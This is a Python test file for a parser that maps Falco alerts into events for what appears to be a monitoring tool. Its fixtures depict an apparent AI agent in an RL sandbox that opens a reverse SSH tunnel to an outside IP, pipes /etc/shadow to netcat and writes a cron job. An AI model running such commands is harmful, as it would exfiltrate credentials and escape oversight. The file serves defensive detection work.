"""Falco alerts (json_output / Falcosidekick) → process, network and file events."""
import json

from vigiles.events import File, Network, Process
from vigiles.sources import ReadError, detect, read_paths

SPAWN = {
    "uuid": "5b8c4c0c-3f4e-4bd6-9a1e-0c6b0c1f2a11",
    "hostname": "rl-node-0417",
    "output": "02:01:37.123456789: Notice A shell was spawned in a container (user=agent shell=bash parent=python3 "
              "cmdline=ssh -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443 container_id=3ad8f1c2b7e1)",
    "priority": "Notice",
    "rule": "Terminal shell in container",
    "source": "syscall",
    "tags": ["container", "mitre_execution", "shell"],
    "time": "2025-12-01T02:01:37.123456789Z",
    "output_fields": {
        "container.id": "3ad8f1c2b7e1", "container.name": "sbx-7f3a9c", "evt.type": "execve",
        "evt.time": 1764554497123456789,
        "proc.cmdline": "ssh -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443",
        "proc.exepath": "/usr/bin/ssh", "proc.pid": 48211, "proc.ppid": 48190, "proc.pname": "bash",
        "proc.pcmdline": "bash -c ./scripts/sync_cache.sh", "user.name": "agent", "proc.cwd": "/workspace/repo/",
    },
}
CONNECT = {
    "output": "Outbound connection to C2 server", "priority": "Warning", "rule": "Outbound Connection to C2 Servers",
    "source": "syscall", "time": "2025-12-01T02:01:38Z", "hostname": "rl-node-0417",
    "output_fields": {
        "evt.type": "connect", "fd.name": "10.42.17.9:51544->185.220.101.47:443", "fd.l4proto": "tcp",
        "fd.cip": "10.42.17.9", "fd.cport": 51544, "fd.sip": "185.220.101.47", "fd.sport": 443,
        "proc.cmdline": "ssh -fN -R 2222:localhost:22 cache@185.220.101.47 -p 443", "proc.pid": 48211,
        "user.name": "agent", "container.id": "host",
    },
}
WRITE = {
    "output": "File below /etc opened for writing", "priority": "Error", "rule": "Write below etc",
    "time": "2025-12-01T02:01:40Z", "hostname": "rl-node-0417",
    "output_fields": {"evt.type": "openat", "evt.arg.flags": "O_WRONLY|O_CREAT|O_TRUNC", "fd.name": "/etc/cron.d/sync",
                      "proc.cmdline": "tee /etc/cron.d/sync", "proc.pid": 48300, "user.name": "root"},
}
READ = {
    "output": "Sensitive file opened for reading", "priority": "Warning", "rule": "Read sensitive file untrusted",
    "time": "2025-12-01T02:01:41Z",
    "output_fields": {"evt.type": "openat", "evt.arg.flags": "O_RDONLY", "fd.name": "/etc/shadow",
                      "proc.cmdline": "bash -c cat /etc/shadow | nc 185.220.101.47 9001", "proc.exepath": "/usr/bin/bash"},
}


def _read(tmp_path, lines):
    path = tmp_path / "events"
    path.write_text("\n".join(lines) + "\n")
    return path, list(read_paths([path]))


def test_detected_by_content(tmp_path):
    path, _ = _read(tmp_path, [json.dumps(SPAWN)])
    assert detect(path).name == "falco"


def test_spawn_connect_and_write_mapping(tmp_path):
    _, items = _read(tmp_path, [json.dumps(x) for x in (SPAWN, CONNECT, WRITE, READ)])
    proc, net, file, read = items
    assert isinstance(proc, Process)
    assert proc.argv == ["ssh", "-fN", "-R", "2222:localhost:22", "cache@185.220.101.47", "-p", "443"]
    assert (proc.pid, proc.ppid, proc.exe, proc.user, proc.cwd) == (48211, 48190, "/usr/bin/ssh", "agent", "/workspace/repo/")
    assert proc.host == "rl-node-0417" and proc.sandbox == "sbx-7f3a9c"
    assert proc.extra["falco_rule"] == "Terminal shell in container" and proc.extra["falco_priority"] == "Notice"
    assert proc.extra["parent_cmdline"] == "bash -c ./scripts/sync_cache.sh" and proc.extra["container_id"] == "3ad8f1c2b7e1"
    assert abs(proc.ts - 1764554497.123456) < 1e-3
    assert isinstance(net, Network)
    assert (net.src, net.sport, net.dst, net.dport, net.proto, net.direction) == (
        "10.42.17.9", 51544, "185.220.101.47", 443, "tcp", "outbound")
    assert net.pid == 48211 and net.extra["falco_rule"] == "Outbound Connection to C2 Servers"
    assert "container_id" not in net.extra  # "host" means no container
    assert isinstance(file, File) and (file.path, file.op, file.pid) == ("/etc/cron.d/sync", "write", 48300)
    # A read is no file change: it stays a process event (the command is what rules read).
    assert isinstance(read, Process) and read.argv == ["bash", "-c", "cat /etc/shadow | nc 185.220.101.47 9001"]
    assert read.pid == 0 and read.extra["pid_unknown"] is True and read.extra["fd_name"] == "/etc/shadow"


def test_connection_from_fd_name_only(tmp_path):
    alert = {**CONNECT, "output_fields": {"evt.type": "connect", "fd.name": "10.0.0.5:40000->203.0.113.9:22",
                                          "proc.pid": 7}}
    _, (net,) = _read(tmp_path, [json.dumps(alert)])
    assert (net.src, net.sport, net.dst, net.dport) == ("10.0.0.5", 40000, "203.0.113.9", 22)


def test_malformed_lines_are_reported_and_neighbours_read(tmp_path):
    no_fields = {k: v for k, v in SPAWN.items() if k != "output_fields"} | {"output_fields": "x"}
    nothing = {**WRITE, "output_fields": {"evt.type": "ptrace"}}
    _, items = _read(tmp_path, [json.dumps(SPAWN), '{"rule": "x", "priority"', json.dumps(no_fields), "[1, 2]",
                                json.dumps({**SPAWN, "time": "yesterday"}), json.dumps(nothing), json.dumps(CONNECT)])
    errors = [(i.line, i.message) for i in items if isinstance(i, ReadError)]
    assert [line for line, _ in errors] == [2, 3, 4, 5, 6]
    assert "not valid JSON" in errors[0][1] and "output_fields" in errors[1][1] and "ts" in errors[3][1]
    assert "no proc.cmdline" in errors[4][1]
    assert [type(i) for i in items if not isinstance(i, ReadError)] == [Process, Network]


def test_not_taken_for_generic_or_other_formats(tmp_path):
    path = tmp_path / "g.jsonl"
    path.write_text(json.dumps({"kind": "action", "ts": 1, "tool": "bash", "input": "ls", "rule": "r",
                                "priority": "p", "output": "o", "output_fields": {}}) + "\n")
    assert detect(path).name == "generic"
